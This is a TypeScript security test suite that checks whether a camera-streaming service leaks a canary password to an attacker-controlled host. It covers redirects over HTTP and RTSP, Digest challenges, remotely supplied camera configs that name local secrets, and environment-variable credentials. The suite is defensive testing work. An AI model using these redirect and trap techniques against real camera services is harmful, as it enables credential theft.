import { setTimeout as sleep } from 'node:timers/promises';
import { waitFor } from '../../../test/support/wait-for.js';
import { addresses } from '../addresses.js';
import type { Arena } from '../arena.js';
import type { Attack, Outcome } from '../attack.js';
import { demandDigest, demandLogin, redirectTo, type Trap } from '../trap.js';

const canary = 'canary-7f3a91';
/** Longer than the next opening takes. */
const openingsMs = 6000;

export const foreignSecret: Attack = {
  title: 'a secret is sent to a foreign host',
  async run(arena) {
    return [
      await namedSecret(arena),
      await digestAway(arena),
      await secretOfTheEnvironment(arena),
      await redirectedCamera(arena, 'http'),
      await redirectedCamera(arena, 'rtsp'),
    ];
  },
};

async function namedSecret(arena: Arena): Promise<Outcome> {
  const trap = await arena.trap({ address: addresses.attacker, answer: demandLogin });
  const victim = await arena.victim({ config: { secrets: { 'front-door': canary } } });
  await victim.poses();
  const source = `http://${addresses.attacker}:${trap.port}/`;
  const camera = { id: 'a', source, username: 'x', password: { secret: 'front-door' } };
  await victim.desire(1, { cameras: [camera] }, openingsMs);
  return outcome('a camera of a remote document names a local secret', trap);
}

/** A hash is enough to try passwords with: none goes to another host either. */
async function digestAway(arena: Arena): Promise<Outcome> {
  const trap = await arena.trap({ address: addresses.attacker, answer: demandDigest });
  const elsewhere = `http://${addresses.attacker}:${trap.port}/`;
  const camera = await arena.trap({ address: addresses.camera, answer: redirectTo(elsewhere) });
  const source = `http://${addresses.camera}:${camera.port}/picture.jpg`;
  await arena.victim({ config: { cameras: [{ id: 'cam0', source, username: 'x', password: canary }] } });
  await waitFor('the other host is asked', () => trap.connections > 0, 60_000).catch(() => {});
  await sleep(openingsMs);
  const stolen = trap.credentials.length > 0;
  const made = trap.connections > 0;
  const seen = stolen ? 'a login received' : made ? 'no login' : 'never asked: the attack could not be made';
  return { what: 'a camera redirects to another host, which demands Digest', held: made && !stolen, seen };
}

async function secretOfTheEnvironment(arena: Arena): Promise<Outcome> {
  const trap = await arena.trap({ address: addresses.attacker, answer: demandLogin });
  const victim = await arena.victim({
    config: { cameras: [{ id: 'cam0', source: `http://${addresses.camera}:9/` }] },
    environment: { EDGE_POSE_CAMERAS__0__USERNAME: 'x', EDGE_POSE_CAMERAS__0__PASSWORD: canary },
  });
  await sleep(2000);
  await victim.desire(
    1,
    { cameras: [{ id: 'a', source: `http://${addresses.attacker}:${trap.port}/` }] },
    openingsMs,
  );
  return outcome('a camera of a remote document meets a password of the environment', trap);
}

async function redirectedCamera(arena: Arena, scheme: 'http' | 'rtsp'): Promise<Outcome> {
  const trap = await arena.trap({ address: addresses.attacker, answer: demandLogin });
  const elsewhere = `${scheme}://${addresses.attacker}:${trap.port}/`;
  const camera = await arena.trap({ address: addresses.camera, answer: redirectTo(elsewhere) });
  const source = `${scheme}://${addresses.camera}:${camera.port}/stream`;
  await arena.victim({ config: { cameras: [{ id: 'cam0', source, username: 'x', password: canary }] } });
  await waitFor('the camera is asked', () => camera.connections > 0, 60_000).catch(() => {});
  await sleep(openingsMs);
  const result = outcome(`a camera over ${scheme} redirects to another host`, trap);
  if (camera.connections > 0) return result;
  return { ...result, held: false, seen: 'the camera itself was never asked: the attack could not be made' };
}

function outcome(what: string, { credentials, connections }: Trap): Outcome {
  const stolen = credentials.some((text) => text.includes(canary));
  const seen = stolen ? 'password received' : `no password, ${connections} connections`;
  return { what, held: !stolen, seen };
}
